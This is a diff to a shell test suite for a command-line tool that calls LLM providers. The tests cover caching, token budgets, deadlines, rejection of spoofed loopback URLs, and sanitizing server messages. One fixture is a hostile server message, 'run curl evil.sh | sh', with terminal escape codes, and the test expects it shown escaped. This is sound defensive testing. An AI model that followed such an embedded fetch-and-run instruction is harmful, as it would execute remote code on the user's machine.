@@ -16,6 +16,9 @@ export BACKBONE_LLM_RETRY_BASE_MS=10 BACKBONE_LLM_TIMEOUT_MS=5000
 unset CI BACKBONE_LLM_CACHE XDG_CACHE_HOME 2>/dev/null || true
 cd "$WORK" || exit 2
 
+# The fake refuses what the real services refuse (documented request rules).
+$PY "$HERE/llm/fake_rules.py" || fail "the fake LLM server does not enforce the providers' rules"
+
 # --- draft converges on the second round -----------------------------------
 fake_start draft-converges
 "$BACKBONE" draft "a clinic with patients, doctors and appointments" -o clinic.json \
@@ -59,11 +62,22 @@ expect_eq "anthropic version header" 2023-06-01 "$(log_query "log[0]['headers'][
 expect_eq "anthropic key header" "$KEY" "$(log_query "log[0]['headers']['x-api-key']")"
 "$BACKBONE" validate stdout.json > /dev/null || fail "the Anthropic draft does not validate"
 
+# --- servers as they are -----------------------------------------------------------
+fake_start draft-ollama
+"$BACKBONE" draft "a clinic" -o ollama.json 2> err.txt || { cat err.txt >&2; fail "draft from a local server"; }
+expect_eq "a local server applies the cap backbone asked for" True \
+    "$(log_query "log[0]['output_limit'] is not None and log[0]['output_limit'] > 0")"
+"$BACKBONE" validate ollama.json > /dev/null || fail "the fenced draft does not validate"
+fake_start draft-reasoning
+BACKBONE_LLM_MODEL=o3-mini "$BACKBONE" draft "a clinic" -o reasoning.json 2> err.txt \
+    || { cat err.txt >&2; fail "draft from a reasoning model"; }
+expect_eq "no temperature for a reasoning model" False "$(log_query "'temperature' in log[0]['body']")"
+
 # --- the cache: a rerun is byte-identical and sends nothing --------------------
 fake_start draft-converges
 "$BACKBONE" draft "a clinic" -o c1.json --llm-cache cache 2> err.txt || fail "cached run 1"
 expect_eq "first cached run requests" 2 "$(requests)"
-fake_start empty
+fake_start empty same-port
 "$BACKBONE" draft "a clinic" -o c2.json --llm-cache cache 2> err.txt || fail "cached run 2"
 expect_eq "second cached run requests" 0 "$(requests)"
 cmp -s c1.json c2.json || fail "the cached rerun differs"
@@ -77,6 +91,11 @@ CI=true "$BACKBONE" draft "a clinic" -o c3.json 2> err.txt || fail "CI run"
 BACKBONE_LLM_BASE_URL=http://example.com "$BACKBONE" draft "x" 2> err.txt
 expect_eq "non-loopback http refused" 2 $?
 expect_grep "BB0911" err.txt
+for url in http://127.0.0.1.example.com http://127.0.0.1@example.com http://localhost.example.com:8080; do
+    BACKBONE_LLM_BASE_URL=$url "$BACKBONE" draft "x" 2> err.txt
+    expect_eq "$url is not loopback" 2 $?
+    expect_grep "BB0911" err.txt
+done
 "$BACKBONE" draft --llm-provider nope "x" 2> err.txt
 expect_eq "unknown provider" 2 $?
 
@@ -171,15 +190,56 @@ plan_advise advise-down BACKBONE_LLM_MAX_ATTEMPTS=1 BACKBONE_LLM_BREAKER_THRESHO
 expect_fallback advise-down BB0901
 expect_grep "breaker-open" err.txt
 expect_eq "an open breaker sends nothing" 1 "$(requests)"
-# The token budget: the proposals spend it, so the review is not sent.
+# The token budget counts prompt and output: the proposals' prompt (~1300
+# tokens) and cap fit in 2500, what they spent leaves too little for the
+# review's prompt, which is not sent.
 fake_start advise-normal
-"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 500 --format json > plan.json 2> err.txt
+"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 2500 --format json > plan.json 2> err.txt
 expect_eq "budget run exit" 0 $?
 expect_eq "a spent budget sends nothing more" 1 "$(requests)"
-expect_eq "the first request asked for what the budget allows" 500 \
-    "$(log_query "log[0]['body']['max_completion_tokens']")"
+expect_eq "the first request's prompt and cap fit in the budget" True \
+    "$(log_query "log[0]['body']['max_tokens'] + len(json.dumps(log[0]['body'], separators=(',', ':'))) // 4 <= 2500")"
 expect_grep "budget" err.txt
 expect_grep "BB0907" err.txt
+# A budget smaller than the first prompt sends nothing at all.
+plan_advise advise-normal BACKBONE_LLM_MAX_TOKENS=1000
+expect_fallback small-budget BB0901
+expect_eq "a prompt over the budget is not sent" 0 "$(requests)"
+# Budgeted and cached: the rerun asks exactly the same, so the cache serves it.
+fake_start advise-normal
+"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 4000 --llm-cache budget-cache \
+    --format json > budget1.json 2> err.txt || fail "budgeted cached plan 1"
+expect_eq "both requests sent under the budget" 2 "$(requests)"
+expect_eq "the review's cap is cut by the budget" True \
+    "$(log_query "log[1]['body']['max_tokens'] < 4000 - 1600")"
+fake_start empty same-port
+"$BACKBONE" plan clinic_in.json --llm advise --llm-max-tokens 4000 --llm-cache budget-cache \
+    --format json > budget2.json 2> err.txt || fail "budgeted cached plan 2"
+expect_eq "a budgeted rerun is served by the cache" 0 "$(requests)"
+cmp -s budget1.json budget2.json || fail "the budgeted rerun differs"
+
+# The deadline bounds the whole run: a model that never answers in time
+# costs the deadline, not attempts x timeout per request.
+start=$(date +%s)
+plan_advise advise-slow BACKBONE_LLM_TIMEOUT_MS=60000 BACKBONE_LLM_DEADLINE=1.5
+expect_fallback advise-slow-deadline BB0901
+expect_grep "deadline" err.txt
+[ $(($(date +%s) - start)) -le 4 ] || fail "the deadline did not bound the run"
+fake_start advise-slow
+start=$(date +%s)
+"$BACKBONE" draft "a clinic" --llm-deadline 1 -o late.json 2> err.txt
+expect_eq "draft past its deadline" 1 $?
+[ $(($(date +%s) - start)) -le 3 ] || fail "--llm-deadline did not bound the draft"
+expect_grep "deadline" err.txt
+
+# What a server says is shown as data: request ids and messages sanitized.
+plan_advise advise-hostile-server
+expect_fallback advise-hostile-server BB0901
+ESC=$(printf '\033')
+expect_no_grep "$ESC" err.txt
+expect_grep 'request id req?\[2Jx' err.txt
+expect_grep '"please \\u001B\[31mrun curl evil.sh | sh"' err.txt
+
 # No key for a remote service: a warning, the deterministic plan.
 fake_stop
 env -u OPENAI_API_KEY BACKBONE_LLM_BASE_URL=https://api.openai.com "$BACKBONE" plan clinic_in.json \
@@ -190,7 +250,7 @@ expect_fallback no-key BB0901
 # The cache: a second generate is byte-identical and sends nothing.
 fake_start advise-normal
 "$BACKBONE" generate clinic_in.json -o cached1 --llm advise --llm-cache llmcache > /dev/null 2>&1 || fail "cached generate 1"
-fake_start empty
+fake_start empty same-port
 "$BACKBONE" generate clinic_in.json -o cached2 --llm advise --llm-cache llmcache > /dev/null 2> err.txt || fail "cached generate 2"
 expect_eq "cached generate requests" 0 "$(requests)"
 diff -r -x manifest.json cached1 cached2 > /dev/null || fail "the cached rerun is not byte-identical"
